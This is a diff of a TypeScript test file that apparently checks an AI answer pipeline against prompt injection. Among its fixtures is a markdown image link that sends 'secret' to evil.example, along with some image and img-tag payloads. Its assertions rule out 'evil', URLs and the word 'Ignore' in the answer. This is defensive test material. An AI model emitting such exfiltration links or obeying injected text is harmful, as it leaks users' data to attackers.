@@ -62,6 +62,7 @@ function obeying(prompt: string, { text, lie = LIE }: Injection) {
     said(`${TRUE} [1] ![p](https://evil.example/?q=secret)`, truth, OWN_QUOTE),
     said(`${TRUE} ![[p]](//north/pier) [[1]](//north/pier) &lt;img src=//north/pier&gt;`, truth, OWN_QUOTE),
     said("The pier will never be repaired.", truth, OWN_QUOTE),
+    said("Mrs Ellery will leave in the autumn of 1999.", truth, OWN_QUOTE),
     said("Mrs Ellery does not oversee the repair of the north pier.", truth, OWN_QUOTE),
   ];
 }
@@ -123,7 +124,7 @@ it("marks what does not stand the check where it is set so, and never what has a
   const supported = answer.statements.filter(({ verdict }) => verdict === "supported");
   expect(new Set(supported.map(({ text }) => text))).toEqual(new Set([TRUE]));
   const marked = answer.statements.filter(({ verdict }) => verdict === "unsupported");
-  expect(marked.map(({ text }) => text)).toContain("The pier will never be repaired.");
+  expect(marked.map(({ text }) => text)).toContain("Mrs Ellery will leave in the autumn of 1999.");
   expect(answer.statements.map(({ text }) => text)).not.toContain(LIE);
   expect(answer.answer).not.toMatch(/evil|:\/\/|[<>*]|Ignore/);
   expect(answer.trace.model?.withheld.length).toBeGreaterThan(0);
